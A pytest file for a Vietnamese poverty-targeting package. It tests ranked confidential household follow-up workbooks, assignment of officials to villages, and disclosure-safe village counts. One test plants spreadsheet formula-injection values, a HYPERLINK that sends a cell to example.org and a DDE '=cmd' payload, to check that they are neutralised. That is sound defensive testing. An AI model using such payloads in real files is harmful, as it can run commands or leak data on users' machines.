"""The officials' follow-up workbooks (confidential, one sheet per village, ranked), caseloads, and published village counts."""

from __future__ import annotations

import itertools
import os
import stat
import unicodedata

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from povanalysis import demo
from povanalysis.common.labels import label
from povanalysis.common.safe import FORMULA_PREFIXES
from povanalysis.data import pipeline, synth
from povanalysis.data.schema import ETHNIC_MAJORITY
from povanalysis.reports.disclosure import attack
from povanalysis.targeting import risk
from povanalysis.targeting.followup import (
    SHEET_TITLE_MAX,
    SUMMARY_SHEET,
    UNKNOWN_VILLAGE,
    assign_officials,
    followup_lists,
    reasons,
    sheet_titles,
    village_counts,
    village_layout,
    village_table,
    write_followup_workbook,
    write_followup_workbooks,
)

HEADERS = ("Thứ tự ưu tiên", "Mã hộ", "Nguy cơ tái nghèo (%)", "Mức nguy cơ", "Lý do", "Cán bộ theo dõi",
           "Ngày thăm hộ", "Kết quả, ghi chú")  # fmt: skip
ETHNIC_GROUPS = ("Kinh", "Tày", "Nùng", "Dao", "H'Mông", "Sán Dìu", "Sán Chay", "Hoa")


@pytest.fixture(scope="module")
def scored(small_panel, small_classified):
    model = risk.fit_fallback_model(small_classified, small_panel.loans)
    return model.score(small_classified)


@pytest.fixture(scope="module")
def lists(scored, small_panel, small_classified):
    return followup_lists(scored, small_classified, villages=small_panel.villages, loans=small_panel.loans)


@pytest.fixture
def reports_elsewhere(tmp_path, monkeypatch):
    monkeypatch.setenv("POVANALYSIS_REPORTS_DIR", str(tmp_path / "reports"))


def _busiest(lists: pd.DataFrame) -> str:
    return lists.groupby("commune_code")["village_code"].nunique().idxmax()


# --------------------------------------------------------------------------- the lists


def test_every_scored_household_is_listed_once_in_its_village_by_rank(lists, scored, small_panel):
    assert len(lists) == len(scored) and lists["household_id"].is_unique
    assert set(lists["household_id"]) == set(scored["household_id"])
    village = small_panel.villages.set_index("household_id")["village_code"]
    assert (lists["village_code"].to_numpy() == lists["household_id"].map(village).to_numpy()).all()
    for _, g in lists.groupby(["commune_code", "village_code"]):
        assert g["rank"].tolist() == list(range(1, len(g) + 1))
        assert (np.diff(g["probability"].to_numpy()) <= 0).all()
    p = scored.set_index("household_id")["probability"]
    assert np.allclose(lists["probability"], lists["household_id"].map(p))
    assert (lists["at_risk"] == (lists["probability"] >= risk.DEFAULT_RISK_THRESHOLD)).all()


def test_reasons_say_deprivations_distance_and_loan(lists, small_classified):
    assert lists["reason"].str.contains("chuẩn nghèo").all()
    assert lists["reason"].str.contains("NHCSXH").all()
    assert lists["reason"].str.startswith(("Nguy cơ cao (", "Nguy cơ thấp hơn (")).all()
    row = lists.iloc[0]
    hh = small_classified.set_index(["household_id", "review_year"]).loc[(row["household_id"], row["review_year"])]
    n = int(hh["deprivations"])
    assert (f"thiếu hụt {n} chỉ số" if n else "không thiếu hụt chỉ số nào") in row["reason"]


def test_reasons_by_hand():
    assert reasons(0.25, 1.10, 0.0, [], (False, "poor", 2021 * 12 + 11)) == (
        "Nguy cơ cao (25%). Thu nhập bình quân đầu người chỉ cao hơn chuẩn nghèo 10% (sát chuẩn); thu nhập gần như "
        "không đổi so với lần rà soát trước; không thiếu hụt chỉ số nào; khoản vay NHCSXH đã hết hạn (chương trình "
        "hộ nghèo, giải ngân 12/2021)."
    )
    text = reasons(0.05, 1.32, np.log(1.2), ["d_latrine"], (True, "near_poor", 2023 * 12))
    assert "cao hơn chuẩn nghèo 32%;" in text and "thu nhập tăng 20%" in text
    assert f"thiếu hụt 1 chỉ số: {label('d_latrine')};" in text
    assert text.endswith("đang vay vốn NHCSXH (chương trình hộ cận nghèo, giải ngân 01/2023).")


def test_loan_status_read_from_the_loans():
    scores = pd.DataFrame(
        {
            "household_id": ["A", "B", "C"],
            "review_year": [2024] * 3,
            "commune_code": ["01840"] * 3,
            "log_income_ratio": [0.05, 0.2, 0.3],
            "income_change": [np.nan] * 3,
            "probability": [0.3, 0.2, 0.1],
        }
    )
    classified = scores[["household_id", "review_year"]].assign(standard="2022-2025")
    for d in ("d_employment", "d_dependants", "d_nutrition", "d_health_insurance", "d_adult_education",
              "d_child_school", "d_housing_quality", "d_floor_area", "d_water", "d_latrine", "d_telecom",
              "d_information_means"):  # fmt: skip
        classified[d] = 0
    loans = pd.DataFrame(
        {
            "household_id": ["A", "B", "B"],
            "programme": ["newly_escaped", "poor", "near_poor"],
            "disbursed": pd.to_datetime(["2024-03-10", "2019-05-02", "2025-02-01"]),
            "term_months": [36, 36, 36],
        }
    )
    out = followup_lists(scores, classified, loans=loans).set_index("household_id")["reason"]
    assert out["A"].endswith("đang vay vốn NHCSXH (chương trình hộ mới thoát nghèo, giải ngân 03/2024).")
    assert out["B"].endswith("khoản vay NHCSXH đã hết hạn (chương trình hộ nghèo, giải ngân 05/2019).")
    assert out["C"].endswith("chưa vay vốn NHCSXH.")
    assert not followup_lists(scores, classified)["reason"].str.contains("NHCSXH").any()
    assert (followup_lists(scores, classified)["village_name"] == UNKNOWN_VILLAGE[1]).all()
    with pytest.raises(ValueError, match=r"household 'A' of 'scores' has no row in 'classified' at review 2024"):
        followup_lists(scores, classified.iloc[1:])


# --------------------------------------------------------------------------- the workbooks


def _cells(ws):
    return [c for row in ws.iter_rows() for c in row if c.value is not None]


def test_workbook_one_sheet_per_village_ranked_with_reasons(lists, tmp_path, reports_elsewhere):
    code = _busiest(lists)
    part = lists[lists["commune_code"] == code]
    out = write_followup_workbook(part, tmp_path / "lists" / f"MAT-CONFIDENTIAL_{code}.xlsx", commune_code=code)
    assert out.households == len(part)
    assert stat.S_IMODE(os.stat(out.path).st_mode) == 0o600
    wb = load_workbook(out.path)
    villages = part.drop_duplicates("village_code")
    assert wb.sheetnames == [SUMMARY_SHEET, *sheet_titles(villages["village_name"].tolist())]
    summary = list(wb[SUMMARY_SHEET].iter_rows(min_row=6, values_only=True))
    assert [r[0] for r in summary] == villages["village_code"].tolist()
    assert [r[3] for r in summary] == part.groupby("village_code", sort=False).size().tolist()
    for title, (vcode, name) in zip(
        wb.sheetnames[1:], villages[["village_code", "village_name"]].itertuples(index=False)
    ):
        ws = wb[title]
        assert ws["A1"].value.startswith(risk.CONFIDENTIAL_MARK) and "do not publish" in ws["A1"].value
        assert name in ws["A2"].value and code in ws["A2"].value
        rows = list(ws.iter_rows(min_row=5, values_only=True))
        assert rows[0] == HEADERS
        body = rows[1:]
        expected = part[part["village_code"] == vcode]
        assert [r[0] for r in body] == list(range(1, len(expected) + 1))
        assert [r[1] for r in body] == expected["household_id"].tolist()
        assert [r[2] for r in body] == sorted((r[2] for r in body), reverse=True)
        assert [r[4] for r in body] == expected["reason"].tolist()
        assert all(r[5] is None and r[6] is None and r[7] is None for r in body)  # for the official to fill


def test_workbook_holds_no_formula_and_no_identifier_beyond_the_list(lists, tmp_path, reports_elsewhere):
    code = _busiest(lists)
    part = lists[lists["commune_code"] == code].copy()
    part.iloc[0, part.columns.get_loc("household_id")] = '=HYPERLINK("http://example.org/?"&A1,"xem")'
    part.iloc[1, part.columns.get_loc("household_id")] = "+84912"
    first = part["village_code"] == part["village_code"].iloc[0]
    part.loc[first, "village_name"] = "=cmd|' /C calc'!A0 [Thôn]: a/b*?"
    part.loc[part.index[2], "reason"] = "@SUM(A1)"
    out = write_followup_workbook(part, tmp_path / "MAT-CONFIDENTIAL_hostile.xlsx", commune_code=code)
    wb = load_workbook(out.path)
    assert "=cmd|' C calc'!A0 Thôn a" in wb.sheetnames[1]
    cells = [c for ws in wb.worksheets for c in _cells(ws)]
    assert not [c for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_PREFIXES)]
    text = " ".join(str(c.value) for c in cells)
    assert "'=HYPERLINK(" in text and "'+84912" in text and "'@SUM(A1)" in text
    # the household code is the only identifier; no ethnicity, no amount of income
    for group in ETHNIC_GROUPS:
        assert f" {group} " not in f" {text} ".replace(",", " ").replace(".", " ")
    assert "dân tộc" not in text.lower() and "minority" not in text.lower() and ETHNIC_MAJORITY not in text.split()
    numbers = [c.value for c in cells if isinstance(c.value, int | float)]
    assert max(numbers) <= max(100, len(part))


def test_vietnamese_sheet_names_fit_excel():
    names = ["Thôn Nà Pục", "THÔN NÀ PỤC", "Tổ dân phố [3]: 4/5*?", "Xóm Đồng Tâm Thượng Hạ Cầu Đá Mới Xa Xôi",
             "Xóm Đồng Tâm Thượng Hạ Cầu Đá Mới Xa Xăm", "Tổng hợp", "History", "'Bản Nà Mò'", "\\/?*"]  # fmt: skip
    titles = sheet_titles([unicodedata.normalize("NFD", n) for n in names])
    assert titles == [
        "Thôn Nà Pục",
        "THÔN NÀ PỤC (2)",
        "Tổ dân phố 3 45",
        "Xóm Đồng Tâm Thượng Hạ Cầu Đá M",
        "Xóm Đồng Tâm Thượng Hạ Cầu (2)",
        "Tổng hợp (2)",
        "History (2)",
        "Bản Nà Mò",
        "Thôn",
    ]


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(min_size=0, max_size=60), min_size=1, max_size=12))
def test_sheet_titles_are_always_valid(names):
    titles = sheet_titles(names)
    assert len(titles) == len(names)
    folded = [t.casefold() for t in titles]
    assert len(set(folded)) == len(folded) and SUMMARY_SHEET.casefold() not in folded and "history" not in folded
    for t in titles:
        assert 1 <= len(t) <= SHEET_TITLE_MAX
        assert not set(t) & set("[]:*?/\\") and not t.startswith("'") and not t.endswith("'")


def test_workbook_refuses_published_or_unmarked_paths(lists, tmp_path, monkeypatch):
    code = _busiest(lists)
    monkeypatch.setenv("POVANALYSIS_REPORTS_DIR", str(tmp_path / "reports"))
    with pytest.raises(ValueError, match=r"its name must contain 'CONFIDENTIAL', got 'theo-doi.xlsx'"):
        write_followup_workbook(lists, tmp_path / "theo-doi.xlsx", commune_code=code)
    with pytest.raises(ValueError, match=r"must be an .xlsx file, got 'MAT-CONFIDENTIAL.csv'"):
        write_followup_workbook(lists, tmp_path / "MAT-CONFIDENTIAL.csv", commune_code=code)
    with pytest.raises(ValueError, match=r"which is the published reports folder"):
        write_followup_workbook(lists, tmp_path / "reports" / "x" / "MAT-CONFIDENTIAL.xlsx", commune_code=code)
    site = tmp_path / "site"
    site.mkdir()
    (site / "index.html").write_text("")
    (site / "index.stamp.json").write_text("{}")
    with pytest.raises(ValueError, match=r"holds a report set's index.html and index.stamp.json"):
        write_followup_workbooks(lists, site / "private")
    assert not (site / "private").exists()
    (tmp_path / "lists").mkdir()
    (tmp_path / "lists" / "link").symlink_to(site)
    with pytest.raises(ValueError, match=r"holds a report set's index.html"):
        write_followup_workbook(lists, tmp_path / "lists" / "link" / "MAT-CONFIDENTIAL.xlsx", commune_code=code)
    written = write_followup_workbook(lists, tmp_path / "lists" / "MAT-CONFIDENTIAL_a.xlsx", commune_code=code)
    os.link(written.path, tmp_path / "lists" / "MAT-CONFIDENTIAL_b.xlsx")
    with pytest.raises(ValueError, match=r"has 2 names \(hard links\)"):
        write_followup_workbook(lists, tmp_path / "lists" / "MAT-CONFIDENTIAL_b.xlsx", commune_code=code)
    with pytest.raises(ValueError, match=r"'lists' has no household of commune '99999'"):
        write_followup_workbook(lists, tmp_path / "MAT-CONFIDENTIAL.xlsx", commune_code="99999")


def test_one_workbook_per_commune_with_officials(lists, tmp_path, reports_elsewhere):
    code = _busiest(lists)
    part = lists[lists["commune_code"] == code]
    load = part.groupby("village_code")["at_risk"].sum()
    assignment = assign_officials(load, ["Nguyễn Thị An", "Hoàng Văn Bình"])
    some = lists[lists["commune_code"].isin([code, *sorted(set(lists["commune_code"]))[:2]])]
    files = write_followup_workbooks(some, tmp_path / "lists", assignments={code: assignment})
    assert len(files) == some["commune_code"].nunique() >= 2
    assert sum(f.households for f in files) == len(some)
    year = int(lists["review_year"].max())
    path = tmp_path / "lists" / f"MAT-CONFIDENTIAL_theo-doi-ho_{code}_{year}.xlsx"
    assert path in [f.path for f in files]
    wb = load_workbook(path)
    summary = {r[0]: r[5] for r in wb[SUMMARY_SHEET].iter_rows(min_row=6, values_only=True)}
    assert summary == assignment.set_index("village_code")["official"].to_dict()
    assert wb.worksheets[1]["A3"].value == f"Cán bộ phụ trách: {summary[part['village_code'].iloc[0]]}"


def test_without_villages_one_sheet_for_the_commune(scored, small_classified, tmp_path, reports_elsewhere):
    plain = followup_lists(scored, small_classified)
    code = _busiest(plain.assign(village_code=plain["household_id"]))
    out = write_followup_workbook(plain, tmp_path / "MAT-CONFIDENTIAL_x.xlsx", commune_code=code)
    assert load_workbook(out.path).sheetnames == [SUMMARY_SHEET, "Chưa rõ thôn, tổ dân phố"]


# --------------------------------------------------------------------------- caseloads


def _check_assignment(loads: list[int], m: int) -> tuple[float, float]:
    caseload = pd.Series(loads, index=[f"v{i:02d}" for i in range(len(loads))], dtype=float)
    a = assign_officials(caseload, m)
    assert sorted(a["village_code"]) == sorted(caseload.index)
    per = a.attrs["caseloads"]
    assert len(per) == m and sum(per.values()) == pytest.approx(sum(loads))
    return max(per.values()), min(per.values())


@settings(max_examples=300, deadline=None)
@given(st.lists(st.integers(0, 60), min_size=1, max_size=40), st.integers(1, 8))
def test_caseloads_differ_by_at_most_the_largest_village(loads, m):
    most, least = _check_assignment(loads, m)
    assert most - least <= max(loads)
    assert most <= sum(loads) / m + max(loads) * (m - 1) / m + 1e-9


@settings(max_examples=150, deadline=None)
@given(st.lists(st.integers(0, 30), min_size=1, max_size=7), st.integers(2, 3))
def test_caseloads_within_grahams_bound_of_the_best(loads, m):
    most, _ = _check_assignment(loads, m)
    best = min(
        max(sum(x for x, k in zip(loads, who) if k == j) for j in range(m))
        for who in itertools.product(range(m), repeat=len(loads))
    )
    assert most <= (4 / 3 - 1 / (3 * m)) * best + 1e-9


def test_assignment_by_hand_and_its_checks():
    a = assign_officials({"a": 5, "b": 5, "c": 2, "d": 1}, 2)
    assert a.values.tolist() == [["a", "Cán bộ 1", 5.0], ["b", "Cán bộ 2", 5.0], ["c", "Cán bộ 1", 2.0],
                                 ["d", "Cán bộ 2", 1.0]]  # fmt: skip
    with pytest.raises(ValueError, match=r"'officials' must be distinct names, at least one, got \['An', 'An'\]"):
        assign_officials({"a": 1}, ["An", "An"])
    with pytest.raises(ValueError, match=r"'caseload' must be non-negative numbers, got -1.0 for 'b'"):
        assign_officials({"a": 1, "b": -1}, 2)
    with pytest.raises(ValueError, match=r"'officials' must be at least 1, got 0"):
        assign_officials({"a": 1}, 0)


# --------------------------------------------------------------------------- published counts


def test_village_counts_are_the_counts_and_survive_the_attack(lists, small_classified, small_panel):
    p = village_counts(lists, small_classified, villages=small_panel.villages)
    v = p.values
    parts = v[v["village_code"] != "all"]
    assert parts["newly_escaped"].sum() == len(lists) and parts["at_risk"].sum() == lists["at_risk"].sum()
    year = int(lists["review_year"].max())
    assert parts["households"].sum() == (small_classified["review_year"] == year).sum()
    shown = p.display("vi")
    assert shown["newly_escaped"].eq("< 10").any()  # small counts there are, and they are hidden
    truth = v[["commune_code", "village_code", "households", "newly_escaped", "at_risk"]]
    for published in (shown, p.for_workbook("vi")):
        result = attack(published, village_layout(), truth=truth)
        assert result.disclosed.empty, result.summary()
    text = shown.to_string()
    assert not any(h in text for h in lists["household_id"].head(50))


def test_one_commune_table_for_the_report(lists, small_classified, small_panel):
    code = _busiest(lists)
    p = village_counts(lists, small_classified, villages=small_panel.villages, commune_code=code)
    assert set(p.values["commune_code"]) == {code}
    assert attack(p.display("vi"), village_layout(), truth=p.values).disclosed.empty
    table = village_table(p, small_panel.villages, lang="vi")
    assert list(table.columns) == ["Thôn, xóm, bản, tổ dân phố", "Số hộ", "Hộ mới thoát nghèo",
                                   "Hộ nguy cơ tái nghèo cao", "Tỷ lệ nguy cơ cao"]  # fmt: skip
    assert table.iloc[-1, 0] == "Cả xã, phường"
    names = set(small_panel.villages.loc[small_panel.villages["commune_code"] == code, "village_name"])
    assert set(table.iloc[:-1, 0]) <= names
    assert not table.isna().any().any()
    two = sorted(set(lists["commune_code"]))[:2]
    both = small_classified[small_classified["commune_code"].isin(two)]
    with pytest.raises(ValueError, match="one commune"):
        village_table(village_counts(lists[lists["commune_code"].isin(two)], both, villages=small_panel.villages))


# --------------------------------------------------------------------------- the demo's step


def test_demo_writes_the_workbooks_beside_the_data_not_the_reports(small_panel, tmp_path, monkeypatch):
    monkeypatch.setenv("POVANALYSIS_REPORTS_DIR", str(tmp_path / "reports"))
    root = tmp_path / "data"
    synth.write(small_panel, root / "raw")
    (root / "raw" / "generator.json").write_text('{"generator": "povanalysis.synth", "seed": 11, "scale": 0.02}')
    pipeline.process(root)
    villages = (root / "raw" / "villages.parquet").read_bytes()
    (root / "raw" / "villages.parquet").unlink()  # data made before villages: derived again, the same
    files = demo.write_followup(root)
    assert (root / "raw" / "villages.parquet").read_bytes() == villages
    assert {f.path.parent for f in files} == {demo.followup_dir(root)} == {root / "confidential" / "theo-doi-ho"}
    assert all(stat.S_IMODE(os.stat(f.path).st_mode) == 0o600 for f in files)
    assert not (tmp_path / "reports").exists()
    sheets = load_workbook(files[0].path).sheetnames
    assert len(sheets) > 2 and sheets[1] != UNKNOWN_VILLAGE[1]
